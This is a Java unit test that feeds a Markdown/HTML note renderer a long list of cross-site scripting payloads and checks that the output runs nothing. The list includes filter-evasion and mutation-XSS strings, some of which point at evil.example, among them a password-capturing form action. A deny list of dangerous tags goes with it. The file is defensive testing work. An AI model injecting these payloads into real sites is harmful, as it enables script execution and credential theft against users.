package org.starpunk.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Whatever is written into a note, a browser that reads it runs nothing of it. */
public class HostileContentTest {

    /** Attacks: OWASP's evasion list, DOMPurify's mutation cases, and what sanitisers have missed before. */
    public static final List<String> ATTACKS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img/src=x/onerror=alert(1)>",
            "<img src=\"x\"onerror=alert(1)>",
            "<a href=\"https://a.example/\" onclick=\"alert(1)\" ONMOUSEOVER=alert(1)>x</a>",
            "<a href=javascript:alert(1)>x</a>",
            "<a href=\"  JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"java&#9;script:alert(1)\">x</a>",
            "<a href=\"java\nscript:alert(1)\">x</a>",
            "<a href=\"&#106;&#97;&#118;&#97;script&colon;alert(1)\">x</a>",
            "<a href=\"&#x6A&#x61&#x76&#x61script:alert(1)\">x</a>",
            "<a href=\"\u0001javascript:alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
            "<a href=\"blob:https://a.example/1\">x</a>",
            "<a href=\"view-source:javascript:1\">x</a>",
            "<img src=\"javascript:alert(1)\">",
            "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
            "<img srcset=\"javascript:alert(1) 1x\">",
            "<video poster=\"javascript:alert(1)\"><source src=\"data:text/html,x\"></video>",
            "<audio src=x onloadstart=alert(1)>",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<style>@import 'https://evil.example/';</style><p style=\"background:url(javascript:1)\">x</p>",
            "<link rel=stylesheet href=//evil.example/><meta http-equiv=refresh content=\"0;url=javascript:1\">",
            "<base href=\"https://evil.example/\">",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><iframe src=javascript:alert(1)></iframe>",
            "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
            "<form action=\"https://evil.example/\"><input name=password><button formaction=javascript:1>x</form>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<template><img src=x onerror=alert(1)></template>",
            "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
            "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
            "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
            "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
            "<plaintext><img src=x onerror=alert(1)>",
            "<select><noembed></select><img title=\"</noembed><img src=x onerror=alert(1)>\">",
            "<!--><img src=x onerror=alert(1)>-->",
            "<!-- --!><img src=x onerror=alert(1)>",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
            "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
            "<a title=\"`<img src=x onerror=alert(1)>`\" href=\"https://a.example/\">x</a>",
            "<table><td><a href=javascript:1><table><tr><img src=x onerror=alert(1)>",
            "<marquee onstart=alert(1)>x</marquee><details ontoggle=alert(1) open>x</details>",
            "<p onpointerenter=alert(1) autofocus tabindex=1 onfocus=alert(1) contenteditable>x</p>",
            "<a href=\"https://a.example/\" ping=\"https://evil.example/\" target=_blank download>x</a>",
            "<x onclick=alert(1)>x</x><isindex action=javascript:1>",
            "<p id=content>x</p><a name=location href=\"#content\">x</a><img id=cookie name=body src=x>",
            "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
            "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)> [x](<data:text/html,x>)",
            "[x]: javascript:alert(1)\n\n[x]",
            "[x](https://a.example/ \"\\\" onmouseover=alert(1) \\\"\")",
            "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>\n\n```\"onload=alert(1)\nx\n```",
            "\u0000<scr\u0000ipt>alert(1)</script><img src=x o\u0000nerror=alert(1)>",
            "<".repeat(3000),
            "- [ ] <input type=password autofocus onfocus=alert(1)>\n- <input type=checkbox onclick=alert(1)> x",
            "x[^1] [^1][^1]\n\n[^1]: <script>alert(1)</script>[^1][x](javascript:alert(1))\n[^\"onload=x]: y",
            "```java\" onload=alert(1)\n<img src=x onerror=alert(1)>\n```\n\n```html\n<script>alert(1)</script>\n```",
            "<pre><code class='language-java h-card' onclick=alert(1)><img src=x onerror=alert(1)></code></pre>",
            "<b>".repeat(3000),
            "<table><tr><td>".repeat(1000),
            ">".repeat(3000) + "[".repeat(3000));

    static final Set<String> NEVER = Set.of(
            "base",
            "button",
            "embed",
            "form",
            "iframe",
            "input",
            "link",
            "math",
            "meta",
            "noscript",
            "object",
            "plaintext",
            "script",
            "select",
            "style",
            "svg",
            "template",
            "textarea",
            "title",
            "xmp");

    static final Pattern ADDRESS = Pattern.compile("(?i)(https?:|mailto:|ftp:|gemini:)[^\\s]*|#a-note[.][^\\s]*");

    /** What says the language of code, and what we add ourselves. */
    static final Pattern OURS = Pattern.compile("language-[\\w+#-]+|code-[a-z]+|footnotes|task");

    @ParameterizedTest
    @EnumSource(ContentFormat.class)
    void runs_nothing(ContentFormat format) {
        ATTACKS.forEach(attack -> assertSafe(html(format, attack)));
    }

    @ParameterizedTest
    @EnumSource(ContentFormat.class)
    void stays_where_it_is_put(ContentFormat format) {
        for (String attack : ATTACKS) {
            Element page = Jsoup.parseBodyFragment(
                            "<article><div>" + html(format, attack) + "</div><footer></footer></article>")
                    .body();
            assertThat(page.select("body > article > div + footer:last-child"))
                    .as(attack)
                    .hasSize(1);
            assertThat(page.children()).as(attack).hasSize(1);
        }
    }

    public static void assertSafe(String html) {
        assertThat(html).doesNotContain("<!--", "<![", "<?");
        for (Element element : Jsoup.parseBodyFragment(html).select("*")) {
            if (!element.is(
                    "li.task > label > input[type=checkbox][disabled], li.task > p > label > input[disabled]")) {
                assertThat(element.normalName()).isNotIn(NEVER);
            }
            assertThat(element.id()).matches("|a-note[.].+");
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey()).isNotIn("style", "name", "srcdoc", "srcset", "rel", "target");
                assertThat(attribute.getKey()).doesNotStartWith("on").doesNotContain(":");
                if (attribute.getKey().equals("class")) {
                    assertThat(attribute.getValue()).matches(OURS);
                }
                if (Set.of("href", "src", "poster", "cite").contains(attribute.getKey())) {
                    assertThat(attribute.getValue()).matches(ADDRESS);
                }
            }
        }
    }

    private static String html(ContentFormat format, String source) {
        return ContentRendererTest.html(format, source);
    }
}
